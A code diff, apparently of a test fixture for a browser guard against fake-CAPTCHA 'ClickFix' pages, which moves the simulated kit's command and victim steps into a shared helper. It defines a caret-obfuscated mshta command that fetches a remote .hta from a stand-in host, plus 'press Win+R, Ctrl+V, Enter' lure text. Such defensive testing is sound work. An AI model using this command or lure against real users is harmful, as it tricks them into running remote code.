@@ -3,7 +3,7 @@
  * as a kit would, and the legitimate pages that must keep working. Every
  * page reports what it got to /__report on its own host (sendBeacon), as
  * in guard-pages.js. */
-const { REPORT_JS, CMD_JS, CMD, LOCKER_TEXT } = require('./guard-pages.js');
+const { KIT_JS, REPORT_JS, CMD, LOCKER_TEXT } = require('./guard-pages.js');
 
 // A cmd.exe command with caret escapes: the shell reads m^s^h^t^a as mshta.
 const CARET_CMD = 'm^s^h^t^a https://verify-check.example.net/v.hta';
@@ -15,9 +15,11 @@ const captchaBody = (extra, onClick) => `<!doctype html><html lang="en"><head><t
   <div id="steps"></div>
   ${extra}
   <script>${REPORT_JS}
-    const cmd = ${CMD_JS};
+    ${KIT_JS}
     document.getElementById('robot').addEventListener('click', () => {
-      document.getElementById('steps').textContent = 'Verification steps: 1. Press Win+R 2. Press Ctrl+V 3. Press Enter';
+      // the kit's command and steps come from its server (guard-pages.js, KIT_JS)
+      const cmd = kit.cmd;
+      document.getElementById('steps').textContent = 'Verification steps: ' + kit.steps;
       ${onClick}
       report('tried');
     });
